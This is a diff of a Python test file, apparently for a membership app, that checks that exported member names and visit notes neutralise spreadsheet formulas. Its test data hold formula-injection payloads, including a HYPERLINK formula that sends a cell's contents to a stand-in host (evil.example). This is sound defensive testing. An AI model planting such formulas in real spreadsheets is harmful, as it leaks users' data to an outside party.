@@ -12,7 +12,6 @@ from core.members import guess_mapping, plan_import, read_table
 from core.models import Member
 from core.xlsx import FORMULA_STARTS, neutralise, restore
 from tests.conftest import add_user
-from tests.test_permissions import world  # noqa: F401  (fixture)
 
 NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
 
@@ -30,7 +29,7 @@ def formula_cells(data: bytes) -> list:
             if cell.data_type == "f"]
 
 
-def test_member_names_and_visit_notes_export_as_text_and_round_trip(app, make_app, world, tmp_path):  # noqa: F811
+def test_member_names_and_visit_notes_export_as_text_and_round_trip(app, make_app, world, tmp_path):
     admin = world["admin"]
     with app.extensions["xiangyin.db"].session() as session:
         for n, text in enumerate(NASTY[:4]):
